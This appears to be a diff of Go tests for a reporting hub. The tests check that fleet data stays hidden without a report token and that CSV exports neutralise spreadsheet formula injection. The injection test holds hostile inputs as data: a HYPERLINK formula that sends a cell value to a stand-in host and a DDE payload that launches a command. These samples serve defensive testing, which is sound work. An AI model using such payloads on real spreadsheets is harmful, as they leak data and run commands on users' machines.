@@ -185,7 +185,7 @@ func TestReportExports(t *testing.T) {
 
 func TestPageShowsTablesAndFleet(t *testing.T) {
 	t.Parallel()
-	th := startHub(t)
+	th := startHub(t, func(o *Options) { o.OpenFleet = true })
 	seedProvince(t, th)
 	if _, err := th.Enroll(context.Background(), Site{Code: "QL-1", Commune: "Xã Quỳnh Lưu"}, "silent-pc"); err != nil {
 		t.Fatal(err)
@@ -245,6 +245,30 @@ func TestLoadCatalogue(t *testing.T) {
 	}
 }
 
+func TestFleetShutWithoutReportToken(t *testing.T) {
+	t.Parallel()
+	th := startHub(t)
+	seedProvince(t, th)
+	resp, err := http.Get(th.srv.URL + "/api/v1/fleet")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden || strings.Contains(string(b), "vh-pc1") {
+		t.Fatalf("fleet without a report token: %d %s", resp.StatusCode, b)
+	}
+	resp, err = http.Get(th.srv.URL + "/?period=month&at=2026-11")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ = io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != 200 || strings.Contains(string(b), "vh-pc1") || !strings.Contains(string(b), "fleet-shut") {
+		t.Fatalf("page without a report token shows device names or no note: %d", resp.StatusCode)
+	}
+}
+
 func TestReportToken(t *testing.T) {
 	t.Parallel()
 	now := func() time.Time { return time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC) }
@@ -276,5 +300,47 @@ func TestReportToken(t *testing.T) {
 	}
 	if resp, _ := http.Get(srv.URL + "/healthz"); resp.StatusCode != 200 {
 		t.Errorf("healthz needs no token: %d", resp.StatusCode)
+	}
+}
+
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	th := startHub(t)
+	key := th.enroll(t, "VH-1", "pc1")
+	hostile := []string{`=HYPERLINK("http://x.example/?a="&A1,"bấm")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB"}
+	var snaps []wire.Snapshot
+	for i, v := range hostile {
+		snaps = append(snaps, snap("2026-11-20", "checkins", int64(i+1), int64(i+1), "note", v))
+	}
+	snaps = append(snaps, snap("2026-11-20", "checkins", 9, 9, "note", "-7")) // a number stays a number
+	if status, er, _ := th.do(t, signedRequest{device: "pc1", secret: key, body: pushBody(t, "VH-1", "pc1", snaps...)}); status != 200 {
+		t.Fatalf("push: %d %+v", status, er)
+	}
+	resp, err := http.Get(th.srv.URL + "/api/v1/report?period=day&at=2026-11-20&by=dim.note&format=csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	for _, r := range records[1:] {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-7" {
+				t.Errorf("cell %q would be a formula", cell)
+			}
+			seen[cell] = true
+		}
+	}
+	for _, v := range hostile {
+		if !seen["'"+v] {
+			t.Errorf("value %q not kept as text ('%s); got %v", v, v, records)
+		}
+	}
+	if !seen["-7"] {
+		t.Errorf("the number -7 was altered: %v", records)
 	}
 }
